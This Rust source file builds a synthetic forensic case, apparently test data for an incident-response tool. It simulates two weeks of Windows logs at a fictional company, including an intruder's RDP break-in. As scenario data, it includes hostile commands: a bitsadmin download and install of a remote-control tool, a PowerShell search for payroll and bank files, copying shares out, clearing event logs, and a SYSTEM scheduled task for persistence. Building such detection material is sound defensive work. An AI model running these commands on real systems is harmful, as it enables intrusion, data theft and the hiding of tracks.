//! The sample case: two weeks at a small company, and the nights on which an intruder got in.
//!
//! All names are invented. All public addresses are from the ranges reserved for documentation.

use super::records::{
    BITS, LSM, OPENSSH, POWERSHELL, RDP_CLIENT, RDP_CORE, SECURITY, SYSMON, SYSTEM, TASKS,
};
use super::scenario::{
    Case, Client, DeskId, Document, Host, Leave, Os, Person, Server, Shortcut, Time, at,
};

const DOMAIN: &str = "LARKFIELD";
const DOMAIN_SID: &str = "S-1-5-21-2906177321-1538471922-3390168854";

/// Logs that this company does not keep.
const NOT_INSTALLED: [&str; 2] = [OPENSSH, SYSMON];

/// Working days, March 2025.
const WORKING_DAYS: [u32; 10] = [3, 4, 5, 6, 7, 10, 11, 12, 13, 14];

/// The names that the attacker tried, in order.
const GUESSED_NAMES: [&str; 9] = [
    "administrator",
    "admin",
    "user",
    "scanner",
    "backup",
    "administrator",
    "svc-sql",
    "svc-backup",
    "test",
];

const GUESSES: u32 = 88;

/// A task of the file server that checks the backup.
const BACKUP_CHECK: &str = "\\Larkfield\\Backup check";

/// A program for remote control, which exists only here, and the task that the intruder makes for it.
const TOOL: &str = "C:\\ProgramData\\Fernsill\\fernsill-host.exe";
const LEFT_TASK: &str = "\\Larkfield\\Share index";

/// Jump lists by the program.
const NOTEPAD: &str = "9b9cdc69c1c24e2b";
const EXPLORER: &str = "f01b4d95cf55d32a";

pub fn sample_case() -> Case {
    Case::of([workstation(), file_server(), gateway()])
}

fn person(name: &str, number: u32) -> Person {
    Person::new(DOMAIN, name, &format!("{DOMAIN_SID}-{number}"))
}

fn anna() -> Person {
    person("anna", 1104)
}

fn miles() -> Person {
    person("miles", 1107).admin()
}

fn petra() -> Person {
    person("petra", 1112).admin()
}

fn backup_account() -> Person {
    person("svc-backup", 1120).admin()
}

fn annas_desk() -> Client {
    Client::new("10.20.0.31", 50_100, "WS-ANNA")
}

fn miles_desk() -> Client {
    Client::new("10.20.0.12", 51_200, "WS-MILES")
}

fn petras_home() -> Client {
    Client::new("198.51.100.24", 52_300, "HOME-PETRA")
}

fn attacker() -> Client {
    Client::new("203.0.113.77", 40_044, "DESKTOP-9F2KQ1M")
}

fn second_attacker_address() -> Client {
    Client::new("192.0.2.146", 61_022, "DESKTOP-9F2KQ1M")
}

/// A time on a day in March 2025, varied by a few minutes from day to day.
fn on(day: u32, time: &str) -> Time {
    at(&format!("2025-03-{day:02} {time}")) + f64::from(day * 37 % 11) * 41.0
}

fn exactly(day: u32, time: &str) -> Time {
    at(&format!("2025-03-{day:02} {time}"))
}

/// Anna's workstation: work at the console, from boot to shutdown.
fn workstation() -> Host {
    let anna = anna();
    let mut host = Host::new("WS-ANNA", DOMAIN, Os::Windows10)
        .without(&NOT_INSTALLED)
        .expecting_activities();
    host.first_record(SECURITY, 18_402);
    host.first_record(SYSTEM, 5_310);
    host.first_record(LSM, 611);
    for day in WORKING_DAYS {
        host.boot(on(day, "06:48:10"));
        if day == 4 {
            host.failed_console_logon(on(day, "06:53:20"), "anna");
        }
        let desk = host.console_logon(on(day, "06:53:41"), &anna);
        host.run(
            on(day, "06:56:02"),
            desk,
            "C:\\Program Files\\Larkfield\\Mail\\mail.exe",
            "mail.exe",
        );
        host.lock(on(day, "09:02:00"), desk);
        host.unlock(on(day, "09:14:30"), desk);
        host.lock(on(day, "11:01:10"), desk);
        if day == 13 {
            host.failed_unlock(on(day, "11:39:48"), desk);
        }
        host.unlock(on(day, "11:40:00"), desk);
        host.run(
            on(day, "13:20:00"),
            desk,
            "C:\\Program Files\\Larkfield\\Office\\sheet.exe",
            "sheet.exe \\\\FS01\\Finance\\plan.sheet",
        );
        host.aside(|host| annas_documents(host, day, desk));
        host.shut_down(on(day, "15:58:00"), desk, false);
    }
    host
}

/// The documents of an ordinary user.
fn annas_documents(host: &mut Host, day: u32, desk: DeskId) {
    // The name of the jump list of sheet.exe.
    let sheet = "3ad60c7b91e25f48";
    let holidays = Document {
        path: "C:\\Users\\anna\\Documents\\Holidays 2025.sheet",
        machine: "ws-anna",
        created: Some(at("2024-12-18 10:02:51") + 0.316_204),
        size: 18_432,
    };
    let plan = Document {
        path: "\\\\FS01\\Finance\\plan.sheet",
        machine: "fs01",
        created: Some(at("2025-01-13 08:11:07") + 0.840_117),
        size: 96_256,
    };
    if day == 10 {
        host.open_with(on(day, "13:41:26"), desk, sheet, &holidays, 1);
        host.keep_link(desk, &holidays);
        let last_year = Document {
            path: "C:\\Users\\anna\\Documents\\Holidays 2024.sheet",
            size: 17_920,
            ..holidays
        };
        host.recycle(on(day, "13:44:09"), desk, "4TZP0W.sheet", &last_year);
    }
    if day == 14 {
        // The last of many times.
        host.open_with(on(day, "13:20:03"), desk, sheet, &plan, 41);
        host.keep_link(desk, &plan);
    }
}

/// The file server: file access by day, the backup by night, an administrator now and then.
fn file_server() -> Host {
    let (anna, miles, backup) = (anna(), miles(), backup_account());
    let mut host = Host::new("FS01", DOMAIN, Os::Server2016)
        .auditing_other_logons()
        .without(&NOT_INSTALLED)
        .expecting_activities();
    host.first_record(SECURITY, 902_114);
    host.first_record(SYSTEM, 31_777);
    host.first_record(TASKS, 4_216);
    host.first_record(POWERSHELL, 88);
    host.boot(exactly(2, "02:00:14"));
    for day in 3..=14 {
        let backup_server = Client::new("10.20.0.40", 49_700 + day as u16, "BACKUP01");
        host.machine_logon(on(day, "00:20:00"), "WS-ANNA$", "10.20.0.31");
        if day == 12 {
            intruder_on_file_server(&mut host);
        }
        if day >= 12 {
            // By the machine, and nobody is connected any more.
            host.aside(|host| host.run_task(exactly(day, "03:00:00"), LEFT_TASK, TOOL, 2.6));
        }
        // Clearing the log removes the earlier nights; this is what the following days still show.
        host.network_logon_for(
            on(day, "03:30:00"),
            &backup,
            &backup_server,
            Some("D$"),
            1460.0,
        );
        let check = "D:\\Jobs\\backup-check.cmd";
        host.aside(|host| host.run_task(exactly(day, "04:10:00"), BACKUP_CHECK, check, 48.0));
        if !WORKING_DAYS.contains(&day) {
            if day == 9 {
                let desk = host.rdp_logon(on(day, "18:02:00"), &miles, &miles_desk());
                host.shut_down(on(day, "18:20:30"), desk, true);
                host.boot(on(day, "18:22:40"));
            }
            continue;
        }
        for (hour, port) in [
            ("07:05:00", 50_110),
            ("08:41:00", 50_152),
            ("13:20:01", 50_207),
        ] {
            let client = annas_desk().port(port + day as u16);
            host.network_logon_for(on(day, hour), &anna, &client, Some("Finance"), 905.0);
        }
        if day % 3 == 1 {
            let client = miles_desk().port(51_300 + day as u16);
            let desk = host.rdp_logon(on(day, "14:10:00"), &miles, &client);
            host.run(
                on(day, "14:13:00"),
                desk,
                "C:\\Windows\\System32\\mmc.exe",
                "mmc.exe compmgmt.msc",
            );
            host.aside(|host| match day {
                4 => host.change_task(on(day, "14:20:36"), desk, BACKUP_CHECK),
                10 => host.run_script(
                    on(day, "14:31:02"),
                    desk,
                    "Get-Volume | Sort-Object SizeRemaining",
                ),
                _ => {}
            });
            host.rdp_logoff(on(day, "14:52:20"), desk);
        }
    }
    host
}

/// The night of the 12th: Remote Desktop from the gateway, access to files, covered tracks.
fn intruder_on_file_server(host: &mut Host) {
    let from_gateway = Client::new("10.20.0.5", 49_873, "GATE01");
    let desk = host.rdp_logon(exactly(12, "01:15:09"), &backup_account(), &from_gateway);
    let system = "C:\\Windows\\System32";
    host.run(
        exactly(12, "01:16:30"),
        desk,
        &format!("{system}\\whoami.exe"),
        "whoami /all",
    );
    host.run(
        exactly(12, "01:17:12"),
        desk,
        &format!("{system}\\net.exe"),
        "net share",
    );
    let list = Document {
        path: "C:\\ProgramData\\shares.csv",
        machine: "fs01",
        created: Some(exactly(12, "01:17:31") + 0.602_918),
        size: 214_907,
    };
    host.aside(|host| {
        let script = "Get-ChildItem D:\\Shares -Recurse -Include *bank*,*payroll*,*agreement* | \
            Select-Object FullName,Length | Export-Csv C:\\ProgramData\\shares.csv";
        host.run_script(exactly(12, "01:17:30"), desk, script);
        host.open_with(exactly(12, "01:18:02"), desk, NOTEPAD, &list, 1);
        host.keep_link(desk, &list);
    });
    host.clear_log(exactly(12, "01:18:40"), desk, "Windows PowerShell");
    host.aside(|host| intruder_reads(host, desk));
    // The Security log is cleared before the copying starts, so the traces of the copying remain.
    host.clear_security_log(exactly(12, "01:21:05"), desk);
    let tool = "C:\\ProgramData\\cpsync.exe";
    host.run(
        exactly(12, "01:22:48"),
        desk,
        tool,
        "cpsync.exe copy D:\\Shares\\Finance drop:lf --transfers 8",
    );
    host.aside(|host| {
        let contracts = Document {
            path: "D:\\Shares\\Contracts",
            machine: "fs01",
            created: None,
            size: 0,
        };
        host.open_with(exactly(12, "01:50:44"), desk, EXPLORER, &contracts, 1);
    });
    host.run(
        exactly(12, "01:51:37"),
        desk,
        tool,
        "cpsync.exe copy D:\\Shares\\Contracts drop:lf --transfers 8",
    );
    host.aside(|host| {
        // By the machine, while he is there.
        let path = "\\Microsoft\\Windows\\Defrag\\ScheduledDefrag";
        let program = "%windir%\\system32\\defrag.exe";
        host.run_task(exactly(12, "02:00:00"), path, program, 421.0);
        let script = "Register-ScheduledTask -TaskPath '\\Larkfield' -TaskName 'Share index' \
            -User SYSTEM -Trigger (New-ScheduledTaskTrigger -Daily -At 3am) -Action \
            (New-ScheduledTaskAction -Execute C:\\ProgramData\\Fernsill\\fernsill-host.exe)";
        host.run_script(exactly(12, "02:10:31"), desk, script);
        host.register_task(exactly(12, "02:10:32"), desk, LEFT_TASK);
        host.recycle(exactly(12, "02:16:52"), desk, "Q7M2KD.csv", &list);
    });
    host.run(
        exactly(12, "02:18:20"),
        desk,
        &format!("{system}\\cmd.exe"),
        "cmd /c del C:\\ProgramData\\cpsync.exe",
    );
    host.rdp_logoff(exactly(12, "02:19:02"), desk);
}

/// What he opens before he clears the Security log.
fn intruder_reads(host: &mut Host, desk: DeskId) {
    let file = |path, created, size| Document {
        path,
        machine: "fs01",
        created: Some(created),
        size,
    };
    let finance = Document {
        path: "D:\\Shares\\Finance",
        machine: "fs01",
        created: None,
        size: 0,
    };
    let logins = file(
        "D:\\Shares\\Finance\\Bank logins.txt",
        at("2024-06-04 09:40:12") + 0.118_402,
        1_164,
    );
    let payroll = file(
        "D:\\Shares\\Finance\\Payroll 2025-03.csv",
        exactly(10, "08:49:55") + 0.407_733,
        48_310,
    );
    let agreement = file(
        "D:\\Shares\\Contracts\\Northmoor supply agreement.rtf",
        at("2024-11-21 14:06:30") + 0.950_026,
        302_118,
    );
    host.open_with(exactly(12, "01:18:55"), desk, EXPLORER, &finance, 1);
    host.open_with(exactly(12, "01:19:10"), desk, NOTEPAD, &logins, 1);
    host.open_with(exactly(12, "01:19:52"), desk, NOTEPAD, &payroll, 2);
    host.keep_link(desk, &logins);
    host.keep_link(desk, &payroll);
    host.keep_link(desk, &agreement);
}

/// The host that is open to the Internet: administrators by day, and the attacker's way in.
fn gateway() -> Host {
    let (miles, petra) = (miles(), petra());
    let mut host = Host::new("GATE01", DOMAIN, Os::Server2012R2)
        .auditing_other_logons()
        .without(&NOT_INSTALLED)
        .expecting_activities();
    host.first_record(SECURITY, 7_001);
    host.first_record(SYSTEM, 60_120);
    host.first_record(RDP_CORE, 175_001);
    host.first_record(BITS, 911);
    host.first_record(RDP_CLIENT, 37);
    host.boot(exactly(2, "02:30:00"));
    for day in WORKING_DAYS {
        if day % 2 == 1 {
            let client = miles_desk().port(51_400 + day as u16);
            let desk = host.rdp_logon(on(day, "08:30:00"), &miles, &client);
            host.rdp_logoff(on(day, "09:05:00"), desk);
        }
        if day == 6 || day == 13 {
            let url = "http://updates.larkfield.example/definitions/latest.cab";
            host.aside(|host| host.machine_downloads(on(day, "12:10:20"), "Definitions", url));
        }
        if day == 4 || day == 6 || day == 11 {
            petra_from_home(&mut host, day, &petra);
        }
        if day == 7 {
            // An ordinary typing error.
            host.failed_nla(on(day, "17:44:00"), "petra", &petras_home().port(52_410));
            let desk = host.rdp_logon(on(day, "17:44:12"), &petra, &petras_home().port(52_411));
            host.rdp_logoff(on(day, "18:31:00"), desk);
        }
        if day == 11 {
            intruder_first_night(&mut host);
        }
    }
    // An update, by the machine.
    host.aside(|host| {
        let image = "\"C:\\Program Files\\Larkfield\\Update\\update.exe\" /svc";
        host.service_of_the_machine(exactly(14, "10:12:41"), "Larkfield Update", image);
    });
    host
}

/// An evening session from home: the desktop is left open, reconnected to, and logged off.
fn petra_from_home(host: &mut Host, day: u32, petra: &Person) {
    let home = petras_home().port(52_300 + day as u16 * 3);
    let desk = host.rdp_logon(on(day, "18:05:00"), petra, &home);
    host.rdp_disconnect(on(day, "18:40:00"), desk, Leave::Window);
    host.rdp_reconnect(on(day, "19:20:00"), desk, &home.port(52_901));
    host.lock(on(day, "19:31:00"), desk);
    host.unlock(on(day, "19:36:00"), desk);
    host.rdp_logoff(on(day, "20:02:00"), desk);
}

/// The 11th: a scan, password guesses, one correct, and a first look around.
fn intruder_first_night(host: &mut Host) {
    let attacker = attacker();
    host.port_scan(exactly(11, "22:31:00"), &attacker.port(39_100), 6);
    let mut time = exactly(11, "22:41:07");
    for number in 0..GUESSES {
        let name = GUESSED_NAMES[number as usize % GUESSED_NAMES.len()];
        let client = attacker.port(40_044 + 2 * number as u16);
        host.failed_nla(time, name, &client);
        time = time + 9.0 + f64::from(number * 5 % 7);
    }
    host.rdp_aborted(time + 4.0, &backup_account(), &attacker.port(40_222));
    let desk = host.rdp_logon(
        exactly(11, "23:12:40"),
        &backup_account(),
        &attacker.port(40_310),
    );
    let system = "C:\\Windows\\System32";
    host.run(
        exactly(11, "23:14:02"),
        desk,
        &format!("{system}\\whoami.exe"),
        "whoami /groups",
    );
    host.run(
        exactly(11, "23:15:40"),
        desk,
        &format!("{system}\\net.exe"),
        "net group \"Domain Admins\" /domain",
    );
    host.run(
        exactly(11, "23:19:11"),
        desk,
        &format!("{system}\\net.exe"),
        "net view",
    );
    host.rdp_disconnect(exactly(11, "23:41:33"), desk, Leave::Window);

    // The same desktop, from another address.
    host.rdp_reconnect(exactly(12, "01:06:20"), desk, &second_attacker_address());
    host.aside(|host| intruder_installs(host, desk));
    host.run(
        exactly(12, "01:14:50"),
        desk,
        &format!("{system}\\mstsc.exe"),
        "mstsc.exe /v:FS01",
    );
    host.aside(|host| {
        let server = Server {
            name: "FS01",
            address: "10.20.0.20",
            session: 2,
            // Of `svc-backup`.
            user_hash: "hYurN+slXIOuOpwi/o8oPPc2/vrMNZMInSUByYujd18=",
        };
        let end = exactly(12, "02:19:03");
        host.connect_onward(exactly(12, "01:15:05"), desk, &server, end);
        let shortcut = Shortcut {
            machine: "gate01",
            server: "FS01",
            arguments: "/v:\"FS01\"",
        };
        host.note_connection(exactly(12, "01:15:11"), desk, &shortcut);
    });
    host.rdp_disconnect(exactly(12, "02:24:45"), desk, Leave::StartMenu);
    host.rdp_reconnect(
        exactly(12, "02:25:58"),
        desk,
        &second_attacker_address().port(61_090),
    );
    host.rdp_disconnect(exactly(12, "02:33:10"), desk, Leave::StartMenu);
    // Hours later a time limit logs the disconnected desktop off.
    host.disconnected_limit(exactly(12, "06:33:11"), desk);
}

/// A program for remote control is fetched and becomes a service.
fn intruder_installs(host: &mut Host, desk: DeskId) {
    let (title, url) = ("fh", "https://dl.fernsill.example/host/fernsill-host.exe");
    let program = "C:\\Windows\\System32\\bitsadmin.exe";
    host.run(
        exactly(12, "01:08:10"),
        desk,
        program,
        &format!("bitsadmin /transfer {title} {url} {TOOL}"),
    );
    host.download(exactly(12, "01:08:11"), desk, title, program, url);
    host.run(
        exactly(12, "01:09:05"),
        desk,
        TOOL,
        "fernsill-host.exe --install",
    );
    let image = format!("\"{TOOL}\" --service");
    host.install_service(
        exactly(12, "01:09:07"),
        desk,
        "Fernsill Remote Control",
        &image,
    );
}
